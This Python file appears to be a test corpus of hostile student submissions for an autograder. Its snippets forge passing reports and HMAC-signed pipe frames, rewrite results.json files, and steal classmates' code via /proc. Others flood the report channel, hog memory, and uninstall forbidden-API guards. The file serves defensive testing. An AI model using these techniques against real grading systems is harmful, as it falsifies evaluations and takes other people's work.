"""Hostile snippets of the attack corpus (``attack_corpus.py``): forged reports, forbidden-API
bypasses, huge frames, stolen code. Each is ordinary Python a student could submit, put into a
submission's ``__init__.py`` (or a patched file); none of them may change a grade.

The escapes (processes that outlive the grading child) are in ``escape_kit.py``.
"""

# --------------------------------------------------------------------------------------------
# Forged passes, from inside the grading child (issue 15, items 1 and 2)
# --------------------------------------------------------------------------------------------
# Rewrites a report (the dict of transformer_spec.results.outcomes.child_report) so every test passed;
# with _TS_ANCHORS_FAIL, the re-checks' anchor cases are reported failed (no anchor claimed).
_FORGE_REPORT = '''
def _ts_forge(report):
    try:
        from transformer_spec.contract import registry as _reg
        anchors = {a for r in _reg.rechecks() for a in r.anchors}
    except Exception:
        anchors = set()
    if not isinstance(report, dict) or report.get("kind") != "report":
        return report
    report = dict(report, submission_error=None, submission_error_kind=None, interrupted=False,
                  stopped_for_time=False, diagnoses={})
    tests = []
    for t in report.get("tests", []):
        t = dict(t, kind="passed", failure=None, message="", counterexample="")
        if _TS_ANCHORS_FAIL and t["nodeid"] in anchors:
            t.update(kind="assertion", failure="assertion", message="AssertionError")
        tests.append(t)
    report["tests"] = tests
    return report
'''


def _forger(body: str, anchors_fail: bool) -> str:
    return f"_TS_ANCHORS_FAIL = {anchors_fail}\n" + _FORGE_REPORT + body


_PATCH_CHILD_REPORT = '''
import transformer_spec.results.outcomes as _ts_o
_ts_orig_child_report = _ts_o.child_report
_ts_o.child_report = lambda *a, **k: _ts_forge(_ts_orig_child_report(*a, **k))
'''

# The grading plugin's report hook: the hook implementation already registered (found through
# the pytest config object in memory) gets a forging function in place of its bound method.
_PATCH_REPORT_HOOK = '''
import gc as _ts_gc
for _ts_cfg in [o for o in _ts_gc.get_objects() if type(o).__name__ == "Config"
                and type(o).__module__ == "_pytest.config"]:
    for _ts_impl in _ts_cfg.hook.pytest_transformer_spec_report.get_hookimpls():
        def _ts_hook(config, report, _f=_ts_impl.function):
            return _f(config=config, report=_ts_forge(report))
        _ts_impl.function = _ts_hook
'''

_PATCH_CHANNEL_SEND = '''
import transformer_spec.grader.isolation as _ts_iso
_ts_orig_send = _ts_iso.ChildChannel.send
_ts_iso.ChildChannel.send = lambda self, obj, *a, **k: _ts_orig_send(self, _ts_forge(obj), *a, **k)
'''

# Forged frames written straight to the report pipe: the pipe found in /proc/self/fd, the key
# and the sequence number read from memory (the channel object, its writer thread's frame).
_RAW_FRAMES = '''
import gc as _ts_gc, os as _ts_os, sys as _ts_sys, time as _ts_time
def _ts_take_over():
    chans = [o for o in _ts_gc.get_objects() if type(o).__name__ == "ChildChannel"]
    if not chans:
        return
    ch = chans[0]
    pipes = []
    for fd in _ts_os.listdir("/proc/self/fd"):
        try:
            flags = open(f"/proc/self/fdinfo/{fd}").read().split("flags:")[1].split()[0]
            if int(fd) > 2 and _ts_os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:") and int(flags, 8) & 3 == 1:
                pipes.append(int(fd))
        except (OSError, IndexError, ValueError):
            pass
    fd = ch._fd if ch._fd in pipes else (pipes[-1] if pipes else ch._fd)
    key, seq = ch._key, None
    for _ in range(100):  # wait until the writer thread is idle, then read its counter
        frame = _ts_sys._current_frames().get(ch._writer.ident)
        while frame is not None and frame.f_code.co_name != "_write_frames":
            frame = frame.f_back
        if frame is not None and ch._queue.empty() and ch._latest is None:
            seq = frame.f_locals.get("seq")
            break
        _ts_time.sleep(0.01)
    if seq is None:
        return
    import hashlib, hmac, json, struct
    ch._queue = type(ch._queue)()  # the writer waits forever on the old queue
    state = {"seq": seq}
    def send(obj, latest_only=False):
        payload = json.dumps(_ts_forge(obj), separators=(",", ":")).encode()
        s = state["seq"]
        mac = hmac.new(key, struct.pack(">Q", s) + payload, hashlib.sha256).digest()
        data = struct.pack(">4sIQ", b"TSR1", len(payload), s) + payload + mac
        while data:
            data = data[_ts_os.write(fd, data):]
        state["seq"] = s + 1
    def close():
        try:
            _ts_os.close(fd)
        except OSError:
            pass
    ch.send, ch.close = send, close
try:
    _ts_take_over()
except Exception:
    pass
'''

FORGE_CHILD_REPORT = _forger(_PATCH_CHILD_REPORT, False)
FORGE_CHILD_REPORT_ANCHORS_FAIL = _forger(_PATCH_CHILD_REPORT, True)
FORGE_REPORT_HOOK = _forger(_PATCH_REPORT_HOOK, False)
FORGE_CHANNEL_SEND = _forger(_PATCH_CHANNEL_SEND, False)
FORGE_RAW_FRAMES = _forger(_RAW_FRAMES, False)

# Gradescope's path (item 1): at exit, rewrite every results.json the run names (--grade-json in
# this process, --results-json or --out in the grader's command line) to full marks.
ATEXIT_REWRITE = '''
import atexit as _ts_atexit, json as _ts_json, os as _ts_os
def _ts_rewrite():
    def argv(pid):
        try:
            return [a.decode() for a in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0") if a]
        except OSError:
            return []
    paths = []
    for pid, args in (("self", argv("self")), (_ts_os.getppid(), argv(_ts_os.getppid()))):
        cwd = _ts_os.readlink(f"/proc/{pid}/cwd")
        for opt in ("--grade-json", "--results-json", "--out"):
            if opt in args[:-1]:
                p = _ts_os.path.join(cwd, args[args.index(opt) + 1])
                paths.append(p if opt != "--out" else _ts_os.path.join(p, "students", _TS_ME, "results.json"))
    for p in paths:
        if not p.startswith("/tmp/"):
            continue
        try:
            data = _ts_json.load(open(p))
            data["score"] = sum(t["max_score"] for t in data.get("tests", []))
            for t in data.get("tests", []):
                t["score"], t["status"] = t["max_score"], "passed"
            _ts_json.dump(data, open(p, "w"))
        except Exception:
            pass
_ts_atexit.register(_ts_rewrite)
'''

# --------------------------------------------------------------------------------------------
# Huge report frames (item 4): many frames just under the size cap, through the real channel
# --------------------------------------------------------------------------------------------
BIG_FRAMES = '''
import gc as _ts_gc, threading as _ts_threading, time as _ts_time
def _ts_flood():
    chans = [o for o in _ts_gc.get_objects() if type(o).__name__ == "ChildChannel"]
    if not chans:
        return
    pad = "x" * (15 * 2**20)
    end = _ts_time.monotonic() + 30
    for i in range(40):
        while chans[0]._queue.qsize() > 1 and _ts_time.monotonic() < end:
            _ts_time.sleep(0.01)
        chans[0].send({"kind": "ts-junk", "i": i, "pad": pad})
_ts_threading.Thread(target=_ts_flood, daemon=True).start()
'''

# --------------------------------------------------------------------------------------------
# Stolen code (item 4): a classmate's submission found through the grader's command line or a
# classmate's grading child's, imported in place of the submission's own (empty) code
# --------------------------------------------------------------------------------------------
_IMPORT_FOLDER = '''
def _ts_import(path, name):
    import importlib.util as _u, os, sys
    init = os.path.join(path, "__init__.py") if os.path.isdir(path) else path
    spec = _u.spec_from_file_location(name, init, submodule_search_locations=[path] if os.path.isdir(path) else None)
    mod = _u.module_from_spec(spec)
    sys.modules[name] = mod
    spec.loader.exec_module(mod)
    globals().update({k: getattr(mod, k) for k in getattr(mod, "__all__", dir(mod)) if not k.startswith("_")})
'''

STEAL_FROM_CLASS_FOLDER = _IMPORT_FOLDER + '''
def _ts_steal():
    import os
    args = [a.decode() for a in open(f"/proc/{os.getppid()}/cmdline", "rb").read().split(b"\\0") if a]
    folder = os.path.join(os.readlink(f"/proc/{os.getppid()}/cwd"), args[args.index("tools.grade") + 1])
    if folder.startswith("/tmp/") and os.path.isdir(os.path.join(folder, "honest_reference")):
        _ts_import(os.path.join(folder, "honest_reference"), "ts_stolen")
try:
    _ts_steal()
except Exception:
    pass
'''

STEAL_FROM_SANDBOX = _IMPORT_FOLDER + '''
def _ts_steal():
    import os, shutil, time
    me = os.getcwd().split(os.sep)
    root = next((os.sep.join(me[:i + 1]) for i, p in enumerate(me) if p.startswith("transformer-spec-grade-")), None)
    if root is None:
        return
    mine = os.sep.join(me[:me.index(os.path.basename(root)) + 2])
    end = time.monotonic() + 8  # within the per-test timeout (the submission is imported in a test's setup)
    while time.monotonic() < end:
        found = []
        for pid in (p for p in os.listdir("/proc") if p.isdigit()):
            try:
                args = [a.decode() for a in open(f"/proc/{pid}/cmdline", "rb").read().split(b"\\0") if a]
            except OSError:
                continue
            targets = [a.split("=", 1)[1] for a in args if a.startswith("--impl=")]
            targets += [args[args.index("--impl") + 1]] if "--impl" in args[:-1] else []
            for target in targets:
                if target.startswith(root + os.sep) and not target.startswith(mine + os.sep):
                    found.append(target)
        for target in sorted(found, key=lambda t: "honest" not in t):
            copy = os.path.join(os.environ.get("TMPDIR", "/nonexistent"), "stolen_" + os.path.basename(target))
            try:
                (shutil.copytree if os.path.isdir(target) else shutil.copy)(target, copy)
                _ts_import(copy, "ts_stolen")
                return
            except Exception:
                continue
        time.sleep(0.2)
try:
    _ts_steal()
except Exception:
    pass
'''

# Only looks: is the real home folder or the repository readable from the child?
READ_SECRETS = '''
def _ts_look():
    import os, pwd
    home = pwd.getpwuid(os.getuid()).pw_dir
    try:
        os.listdir(home)
        print("ts-hostile: listed the home folder")
    except OSError:
        pass
    try:
        import transformer_spec
        repo = os.path.dirname(os.path.dirname(os.path.abspath(transformer_spec.__file__)))
        open(os.path.join(repo, "reference", "attention.py")).read(100)
        print("ts-hostile: read the repository")
    except Exception:
        pass
try:
    _ts_look()
except Exception:
    pass
'''

# --------------------------------------------------------------------------------------------
# Forbidden-API bypasses (item 5): attention.py's output line replaced by a call of
# F.scaled_dot_product_attention through another route (the weights stay the student's own)
# --------------------------------------------------------------------------------------------
OUTPUT_LINE = "    output = torch.matmul(mixing, v)  # (..., Lq, d_v)"
_ARGS = "q, k, v, attn_mask=None if mask is None else ~mask, scale=scale"

SDPA_ROUTES = {
    "direct": f"    output = F.scaled_dot_product_attention({_ARGS}).nan_to_num(0.0)",
    "thread": ("    import threading\n    _box = []\n"
               f"    _t = threading.Thread(target=lambda: _box.append(F.scaled_dot_product_attention({_ARGS})))\n"
               "    _t.start()\n    _t.join()\n    output = _box[0].nan_to_num(0.0)"),
    "fake_filename": ("    import os\n    _ns = {'F': F}\n"
                      f"    exec(compile('def _f(q, k, v, mask, scale):\\n    return F.scaled_dot_product_attention({_ARGS})\\n', "
                      "os.path.join(os.path.dirname(torch.__file__), 'nn', 'functional.py'), 'exec'), _ns)\n"
                      "    output = _ns['_f'](q, k, v, mask, scale).nan_to_num(0.0)"),
    "c_nn": f"    output = torch._C._nn.scaled_dot_product_attention({_ARGS}).nan_to_num(0.0)",
    # the suite's own window for its oracle values, opened by the submission
    "oracle_window": ("    from transformer_spec.guard import forbidden as _ts_forbidden\n"
                      "    with _ts_forbidden.oracle():\n"
                      f"        output = F.scaled_dot_product_attention({_ARGS}).nan_to_num(0.0)"),
    "aten_math": ("    output = torch.ops.aten._scaled_dot_product_attention_math(q, k, v, "
                  "None if mask is None else torch.zeros(mask.shape, dtype=q.dtype).masked_fill(mask, float('-inf')), "
                  "0.0, False, None, scale=scale)[0].nan_to_num(0.0)"),
}

# Issue 26: the forbidden-API guards of the child's own process, found with gc and uninstalled
# (at import, in every call, or around the call and installed again), then the direct call.
GUARD_IMPORTS = "import torch.nn.functional as F"
FIND_GUARDS = (GUARD_IMPORTS + "\n\n\ndef _ts_guards():\n    import gc\n    from transformer_spec.guard import forbidden\n"
               "    return [o for o in gc.get_objects() if isinstance(o, forbidden.Guard)]\n")
GUARD_REMOVALS = {
    "at_import": FIND_GUARDS + "\n\nfor _ts_g in _ts_guards():\n    _ts_g.uninstall()\n",
    "in_call": FIND_GUARDS,
    "reinstalled": FIND_GUARDS,
}
GUARD_CALLS = {
    "at_import": SDPA_ROUTES["direct"],
    "in_call": "    for _g in _ts_guards():\n        _g.uninstall()\n" + SDPA_ROUTES["direct"],
    "reinstalled": ("    _gs = _ts_guards()\n    for _g in _gs:\n        _g.uninstall()\n" + SDPA_ROUTES["direct"]
                    + "\n    for _g in _gs:\n        _g.install()"),
}

REFERENCE_FROM_THREAD = '''
import threading as _ts_threading
def _ts_load():
    import reference
    globals().update({k: getattr(reference, k) for k in reference.__all__})
_ts_t = _ts_threading.Thread(target=_ts_load)
_ts_t.start()
_ts_t.join()
'''

REFERENCE_BY_PATH = _IMPORT_FOLDER + '''
try:
    import os as _ts_os, transformer_spec as _ts_ts
    _ts_import(_ts_os.path.join(_ts_os.path.dirname(_ts_os.path.dirname(_ts_os.path.abspath(_ts_ts.__file__))),
                                "reference"), "ts_ref_by_path")
except Exception:
    pass
'''


def escape(action: str, student: str) -> str:
    """The line of ``__init__.py`` that starts an escape (``escape_kit.launch``)."""
    return f"\nfrom . import _kit as _ts_kit\n_ts_kit.launch({action!r}, {student!r})\n"

# Issue 26: three fresh interpreters, each under its own address-space limit, together holding more
# than the limit of one submission (1500 MB in tests/adversarial/run.py): 550 MB each, every page
# touched, two of them with the child under the limit, three over it. The child waits until each
# says it holds its memory, then for ten of the watch's periods: on a slow machine a fixed sleep
# could end, and the child with it, before the hogs held anything. A hog the machine cannot give
# its memory ends the import with a message saying so (the attack did not happen; not a grade).
MEMORY_INTERPRETERS = '''
def _ts_hog():
    import subprocess, sys
    code = ("b = bytearray(550 << 20)\\nb[::4096] = b'x' * len(b[::4096])\\nprint('held', flush=True)\\n"
            "import time\\ntime.sleep(60)")
    hogs = [subprocess.Popen([sys.executable, "-c", code], stdout=subprocess.PIPE) for _ in range(3)]
    for h in hogs:
        if h.stdout.readline() != b"held\\n":
            raise ImportError(f"limit_three_interpreters: a hog could not hold 550 MB (exit {h.wait()})")
    return hogs
_TS_HOGS = _ts_hog()
import time as _ts_time
_ts_time.sleep(5)
'''

# Issue 26: in the re-check child (and only there), every name of the submission raises the
# loader's own "not submitted" error, so that its re-checks would read as "missing" names.
RECHECK_MISSING = '''
import sys as _ts_sys
_ts_main = getattr(_ts_sys.modules.get("__main__"), "__spec__", None)
if _ts_main is not None and _ts_main.name == "transformer_spec.grader.recheck":
    from transformer_spec.submission import loader as _ts_loader
    def _ts_missing(*a, **k):
        raise _ts_loader.NotSubmitted("not submitted")
    for _ts_n, _ts_v in list(globals().items()):
        if not _ts_n.startswith("_") and callable(_ts_v):
            globals()[_ts_n] = _ts_missing
'''

# --------------------------------------------------------------------------------------------
# Issue 45, attack 11: argument checks that check nothing, forged `errors` passes, and in the re-check
# child (only there) every constructor raising one ValueError that names every argument, so each errors
# re-check would see the check the code does not have.
# --------------------------------------------------------------------------------------------
#: appended to reference/_validation.py: the constructors' checks accept anything (an honest mistake)
NO_ARGUMENT_CHECKS = '''

def check_positive_int(name, value):
    return value


def check_dropout(value):
    return value


def check_heads(d_model, num_heads):
    return d_model // num_heads if num_heads else d_model
'''

RAISE_IN_RECHECK = '''
import sys as _ts_sys
import torch as _ts_torch
_ts_main = getattr(_ts_sys.modules.get("__main__"), "__spec__", None)
if _ts_main is not None and _ts_main.name == "transformer_spec.grader.recheck":
    def _ts_init(self, *args, **kwargs):
        raise ValueError("invalid argument: check d_model num_heads d_ff dropout max_len vocab_size num_layers "
                         "top_k temperature max_new_tokens seed_tokens mask scale")
    for _ts_v in list(globals().values()):
        if isinstance(_ts_v, type) and issubclass(_ts_v, _ts_torch.nn.Module) and not _ts_v.__module__.startswith("torch"):
            _ts_v.__init__ = _ts_init
'''
